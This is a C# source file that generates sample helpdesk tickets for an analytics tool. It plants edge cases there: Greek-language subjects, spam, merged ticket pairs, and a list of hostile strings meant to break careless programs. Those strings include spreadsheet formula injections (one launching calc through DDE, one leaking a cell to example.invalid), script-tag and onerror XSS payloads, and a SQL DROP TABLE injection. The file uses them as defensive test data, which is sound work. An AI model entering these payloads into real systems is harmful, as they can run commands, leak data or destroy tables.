using static Insights.Samples.Timeline;

namespace Insights.Samples;

/// <summary>Cells that break careless programs, spam, and one merged pair for each tool.</summary>
internal static class Oddities
{
    private static readonly (string Client, string Subject)[] Hostile =
    [
        ("ACR", "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Τιμολόγιο\")"), ("ACR", "+30 210 5550123 δεν χτυπάει"),
        ("NTS", "-άσχετο- πάλι το φορητό της αποθήκης"), ("NTS", "@everyone server down;"), ("NTS", "=1+1"),
        ("NTS", "<script>alert('ERP')</script> βγάζει αυτό το μήνυμα"), ("ACR", "Το POS γράφει \"Error; reboot\"\nκαι μετά σβήνει"),
        ("PAP", "Fwd: \"Σύμβαση; τελική, v2\" δεν ανοίγει"), ("PAP", "=SUM(A1:A9) βγάζει #REF!"),
        ("YGP", "<b>ΕΠΕΙΓΟΝ</b> <img src=x onerror=alert(1)>"),
        ("YGP", "- - - RE: RE: RE: υπενθύμιση - - -"), ("TED", "+ μία οθόνη για το λογιστήριο"), ("TED", "Σχέδιο \"Α-3\", σελ. 4;5;6"),
        ("SIG", "=cmd|' /C calc'!A0"), ("SIG", "@taxis: δεν ανοίγει; \"άκυρο πιστοποιητικό\""), ("SEL", "-20% στο ταμείο δεν περνάει"),
        ("SEL", "'; DROP TABLE tickets; --"),
    ];

    private const string Rambling =
        "Καλημέρα, σας γράφω γιατί από την Παρασκευή το μεσημέρι μετά την ενημέρωση που έκανε μόνος του ο υπολογιστής και ενώ είχα " +
        "ανοιχτό " +
        "το πρόγραμμα και ταυτόχρονα μιλούσα στο τηλέφωνο με τον λογιστή μας ο οποίος μου ζήτησε ένα αρχείο που το είχα αποθηκεύσει " +
        "στα κοινά αλλά δεν το βρίσκω πουθενά " +
        "και μάλλον έχει χαθεί μαζί με άλλα δύο που τα χρειάζομαι οπωσδήποτε μέχρι αύριο το πρωί";

    public static void Add(Scene scene)
    {
        foreach (var (_, subject) in Hostile.Where(h => h.Client == scene.Client.Prefix))
            Subject(scene, subject, "hostile_text");
        if (scene.Client.Prefix is "ACR" or "TED" or "SIG")
            Subject(scene, Rambling, "long_subject");
        if (scene.Client.Prefix is "NTS" or "PAP" or "SEL")
            Spam(scene);
        if (scene.Client.Prefix is "ACR" or "YGP" or "SIG")
            Merged(scene);
    }

    private static void Subject(Scene scene, string subject, string label)
    {
        var ticket = scene.Add("question", Moment(scene), 3, planted: label);
        ticket.Write(subject, label == "hostile_text" ? $"{subject}\n{ticket.Body}" : ticket.Body);
    }

    private static void Spam(Scene scene)
    {
        var ticket = scene.Add("question", Moment(scene), 4, plan: new Plan { NeverAnswered = true }, channel: "email", planted: "spam");
        ticket.Write("Συγχαρητήρια!!! Κερδίσατε 1.000.000 EUR - CLAIM NOW", "Dear winner, click http://example.invalid to claim.");
    }

    private static void Merged(Scene scene)
    {
        var created = Moment(scene);
        var kept = scene.Add("internet", created, 2, plan: new Plan { AnswerAt = scene.Client.Hours.Add(created, 50 * Minute) },
            planted: "merged_primary");
        var second = scene.Add("internet", created + 17 * Minute, 2, kept.Asset, new Plan { NeverAnswered = true },
            planted: "merged_secondary");
        var at = created + 24 * Minute;
        second.Messages.RemoveAll(m => m.SentAt > at);
        second.Changes.Add(new Change(at, "status", "open", "merged", kept.Agent.Name));
        second.Planted.Clear();
        second.Planted.Add("merged_secondary");
        second.MergesWith = kept;
        Outcome.Settle(second);
    }

    private static long Moment(Scene scene) =>
        scene.Client.Hours.Add(Start + (long)(scene.Dice.Unit() * (End - Start - 20 * Day)), scene.Dice.Between(30, 200) * Minute);
}
